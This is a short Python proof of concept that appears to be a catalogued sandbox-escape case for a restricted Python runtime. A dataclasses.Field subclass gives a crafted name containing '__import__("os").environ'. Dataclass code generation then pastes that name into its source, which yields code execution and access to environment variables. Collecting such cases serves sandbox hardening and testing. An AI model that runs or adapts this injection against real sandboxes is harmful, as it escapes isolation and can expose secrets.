# technique: a class derived from dataclasses.Field computes its name, which is put into source text
# source: reading pyrestrict and GraalPy's library
# goal: run text of the guest's choice with no guard in it
# impact: exec
import dataclasses
hits = []
class F(dataclasses.Field):
    name = property(lambda s: 'x=__import__("os").environ, y', lambda s, v: None)
f = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)
class C:
    x: int = f
C = dataclasses.dataclass(C)
c = C(y=1)
escaped(C)
